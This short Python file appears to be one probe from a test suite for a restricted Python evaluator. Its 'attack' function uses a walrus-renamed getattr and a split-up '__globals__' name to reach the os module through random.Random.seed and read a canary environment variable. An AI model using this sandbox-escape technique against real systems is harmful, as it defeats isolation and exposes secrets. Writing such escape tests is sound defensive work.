"""P1: a walrus renames getattr, and names are computed."""


def attack(door):
    door.run("import random")
    door.value(
        "(g := getattr) and g(g(random.Random.seed, '__glo' + 'bals__')['_os'], 'environ')['CANARY']"
    )
